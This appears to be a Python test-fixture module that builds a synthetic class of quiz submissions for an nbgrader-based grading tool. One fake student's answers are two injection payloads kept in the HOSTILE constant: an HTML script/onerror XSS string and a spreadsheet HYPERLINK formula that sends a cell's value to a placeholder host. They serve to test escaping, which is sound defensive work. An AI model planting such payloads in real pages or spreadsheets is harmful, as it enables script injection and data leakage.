"""A class that nobody teaches: what each believes is known, and so is what must come out."""

from __future__ import annotations

import json
import re
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import nbformat

from course_lib.quiz import Question

HOSTILE = (
    '<script>document.title = "taken"</script><img src=x onerror=alert(1)>',
    '=HYPERLINK("http://example.org/?"&A1, "my marks")',
)
"""What somebody writes instead of a letter: once for the page, once for the spreadsheet."""
HOLDERS = (1, 2, 3, 1, 1)
"""How many students take the first wrong choice of question 1, 2, …, and nothing else wrong."""


@dataclass(frozen=True)
class Student:
    """What one student hands in."""

    name: str
    answers: tuple[str, ...]
    """The text that is set to answer_1, answer_2, …"""
    first: tuple[str, ...] | None = None
    """What was handed in before that, if something was."""
    late: bool = False
    broken: bool = False
    """Whether the notebook's file is cut off, so that nobody can read it."""

    def right(self, questions: Sequence[Question]) -> list[bool]:
        """Which questions are right, in order."""
        return [said == one.key for said, one in zip(self.answers, questions, strict=True)]


def synthetic_class(questions: Sequence[Question]) -> list[Student]:
    """Fifteen students of a quiz of five questions, given as they are shown to them."""
    keys = tuple(question.key for question in questions)
    wrong = tuple(wrong_letters(question)[-1] for question in questions)
    holders = [
        Student(f"holds-{number}-{letter}", (*keys[: number - 1], taken, *keys[number:]))
        for number, (question, many) in enumerate(zip(questions, HOLDERS, strict=True), start=1)
        for letter, taken in zip("abc"[:many], wrong_letters(question)[:1] * many, strict=True)
    ]
    return [
        Student("perfect", keys),
        Student("empty", ("",) * len(keys)),
        Student("half-done", (*keys[:2], "", "", "")),
        *holders,
        Student("late", keys, late=True),
        Student("resubmitted", keys, first=wrong),
        Student("hostile", (*HOSTILE, *keys[2:])),
        Student("broken", keys, broken=True),
    ]


def wrong_letters(question: Question) -> list[str]:
    """Letters of the choices that are not the best one."""
    return [letter for letter in question.letters if letter != question.key]


def filled(notebook: str, answers: Sequence[str]) -> str:
    """The notebook's file after a student typed these answers, and changed nothing else."""
    raw: dict[str, Any] = json.loads(notebook)
    left = dict(enumerate(answers, start=1))
    for cell in raw["cells"]:
        source = "".join(cell["source"])
        for number in list(left):
            answer = f"answer_{number} = {left[number]!r}"
            new, found = re.subn(
                rf"^answer_{number} = .*$", lambda _, a=answer: a, source, flags=re.M
            )
            if found and cell["cell_type"] == "code":
                cell["source"] = source = new
                del left[number]
    if left:
        raise ValueError(f"the notebook has no cell for answer {', '.join(map(str, left))}")
    return json.dumps(raw)


def sheet(answers: Sequence[str]) -> str:
    """The file of a notebook with nothing but answer cells, for tests that need no quiz."""
    cells = [
        nbformat.v4.new_code_cell(f"answer_{number} = {answer!r}", id=f"answer-{number}")
        for number, answer in enumerate(answers, start=1)
    ]
    return str(nbformat.writes(nbformat.v4.new_notebook(cells=cells)))


def hand_in(course: Path, assignment: str, student: Student, when: str) -> None:
    """Put a submission where nbgrader's collect puts it."""
    folder = course / "submitted" / student.name / assignment
    folder.mkdir(parents=True)
    text = sheet(student.answers)
    path = folder / f"{assignment}.ipynb"
    path.write_text(text[: len(text) // 2] if student.broken else text, encoding="utf-8")
    (folder / "timestamp.txt").write_text(when)


def bank(questions: Sequence[Question]) -> str:
    """The text of a bank that holds these questions."""
    tables = []
    for one in questions:
        tables.append("[[question]]")
        names = ("id", "section", "heading", "stem", "key")
        tables += ["graded = true"] * one.graded
        tables += [f"{name} = {json.dumps(getattr(one, name))}" for name in names]
        for choice in one.choices:
            tables += ["[[question.choice]]", f"text = {json.dumps(choice.text)}"]
            tables.append(f"feedback = {json.dumps(choice.feedback)}")
            if choice.misconception:
                tables.append(f"misconception = {json.dumps(choice.misconception)}")
    return "\n".join(tables)
